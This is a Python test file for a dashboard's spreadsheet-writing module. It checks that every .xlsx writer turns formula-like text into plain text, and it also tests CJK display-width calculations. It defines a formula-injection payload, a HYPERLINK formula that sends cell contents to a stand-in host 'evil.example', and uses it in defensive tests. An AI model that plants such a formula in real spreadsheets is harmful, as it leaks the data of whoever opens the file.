"""Every .xlsx the dashboard writes goes through metrics.core.spreadsheet: one place for the workbook's safe options,
the quoting of formula-like text, and display width.

WRITERS lists every writer once; a hostile cell `=HYPERLINK(...)` written by each comes back as text (openpyxl reads
a formula as data_type "f"). The module checks below make the list complete: no other module imports xlsxwriter, and
the modules that open a workbook are exactly the listed ones, so a new writer that bypasses the module, or uses it
without being listed here, fails.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from metrics import actions
from metrics.core.config import default_config
from metrics.core.datasets import DATASETS
from metrics.core.spreadsheet import column_width, display_width, neutralise
from metrics.kpi import explore
from metrics.load import problem_report, templates, validate
from metrics.outputs import acceptance, evidence, self_evaluation
from metrics.platform.auth import User

from . import source_tree
from .ledgers import TEST_KEY

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'
EDITOR = User("clerk", "李会计", "editor", "local")


def _problem_report(con, monkeypatch) -> bytes:
    # A clerk's sessions ledger whose date cell is the hostile text: the report copies the cell and lists the problem.
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["场次编号", "培训日期", "乡镇", "培训主题", "培训形式"],
                                  ["S1", HOSTILE, "禾木", "直播带货", "线下"]])
    content = buffer.getvalue().encode("utf-8")
    parsed = validate.parse_file("sessions.csv", content, None, default_config(), TEST_KEY.encode(), dt.date(2024, 6, 1))
    assert any(p.value == HOSTILE for p in parsed.errors)  # the problem quotes the cell
    return problem_report.problem_workbook("sessions.csv", content, parsed.problems)


def _template(con, monkeypatch) -> bytes:
    ds = DATASETS["training_sessions"]
    monkeypatch.setitem(ds.example, ds.columns[0].key, HOSTILE)
    return templates.template_bytes("training_sessions")


def _explore_download(con, monkeypatch) -> bytes:
    return explore.xlsx_bytes(pd.DataFrame({HOSTILE: [HOSTILE, "plain"]}))


def _self_evaluation(con, monkeypatch) -> bytes:
    # An editor's own words for 实际完成情况, typed in the page: stored, then written into the 绩效自评表.
    actions.edit_self_evaluation(con, EDITOR, "project", "goal", HOSTILE)
    data = acceptance.collect(con, dt.date(2024, 10, 31), "zh", default_config(), contents=False)
    return self_evaluation.self_evaluation_xlsx(data)


def _evidence_sheet(con, monkeypatch) -> bytes:
    return evidence.frames_xlsx([("台账", pd.DataFrame({"备注": [HOSTILE], "金额": [1.5]}), {0})])


# Module -> how a hostile cell reaches one of its workbooks. Every module that writes .xlsx is here.
WRITERS = {
    "metrics.load.problem_report": _problem_report,
    "metrics.load.templates": _template,
    "metrics.kpi.explore": _explore_download,
    "metrics.outputs.self_evaluation": _self_evaluation,
    "metrics.outputs.evidence": _evidence_sheet,
}


def _cells(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content))  # formulas kept as formulas (data_type "f")
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield sheet.title, cell


@pytest.mark.parametrize("module", sorted(WRITERS))
def test_a_hostile_cell_comes_back_as_text_from_every_writer(module, con, monkeypatch):
    cells = list(_cells(WRITERS[module](con, monkeypatch)))  # the workbook read once for both checks
    formulas = [f"{title}!{c.coordinate}: {c.value}" for title, c in cells
                if c.data_type == "f" and "HYPERLINK" in str(c.value).upper()]
    assert formulas == []
    texts = [c.value for _, c in cells if c.data_type == "s" and HOSTILE in c.value]
    assert texts, "the hostile text was not written at all: the check above would pass on nothing"
    assert all(v in (HOSTILE, "'" + HOSTILE) for v in texts)


def _source_modules() -> dict[str, Path]:
    """Module name -> file, of the library (catalogues included), the shared UI pieces and the pages."""
    return {".".join(p.relative_to(ROOT).with_suffix("").parts): p for p in source_tree.files("library", "ui", "pages")}


def test_only_the_spreadsheet_module_imports_xlsxwriter():
    importers = set()
    for name, path in _source_modules().items():
        for node in source_tree.walk(path):
            names = ([a.name for a in node.names] if isinstance(node, ast.Import)
                     else [node.module or ""] if isinstance(node, ast.ImportFrom) else [])
            if any(n.split(".")[0] == "xlsxwriter" for n in names):
                importers.add(name)
    assert importers == {"metrics.core.spreadsheet"}


def test_the_writers_list_names_every_module_that_opens_a_workbook():
    openers = {name for name, path in _source_modules().items() for node in source_tree.walk(path)
               if isinstance(node, ast.Call) and getattr(node.func, "attr", getattr(node.func, "id", None))
               == "new_workbook"}
    assert openers == set(WRITERS)


def test_formula_quoting_and_display_width_are_written_once():
    """No module outside metrics.core.spreadsheet spells the formula-start characters or measures width by
    east_asian_width (except slide_layout, which measures a proportional font in points: another idea)."""
    offenders = []
    for name, path in _source_modules().items():
        if name == "metrics.core.spreadsheet":
            continue
        for node in source_tree.walk(path):
            if isinstance(node, ast.Tuple) and {"=", "+", "-", "@"} <= {
                    e.value for e in node.elts if isinstance(e, ast.Constant) and isinstance(e.value, str)}:
                offenders.append(f"{name}:{node.lineno} formula quoting")
            if (isinstance(node, ast.Attribute) and node.attr == "east_asian_width"
                    and name != "metrics.outputs.slide_layout"):
                offenders.append(f"{name}:{node.lineno} display width")
    assert offenders == []


def test_display_width_counts_wide_characters_twice():
    assert display_width("布尔津ab") == 8  # 3 CJK x 2 + 2 ASCII x 1
    assert display_width("ＰＸ-1") == 6  # full-width letters count two: 2 x 2 + 2
    assert column_width(["布尔津ab", "x"]) == 10  # the widest (8) plus a margin of 2
    assert column_width(["a"]) == 8 and column_width(["字" * 40]) == 60  # within [8, 60]


def test_neutralise_quotes_only_formula_like_text():
    assert [neutralise(v) for v in ("=1+1", "+1", "-2", "@SUM(A1)", "\t=1", "禾木", "", 5)] == [
        "'=1+1", "'+1", "'-2", "'@SUM(A1)", "'\t=1", "禾木", "", 5]
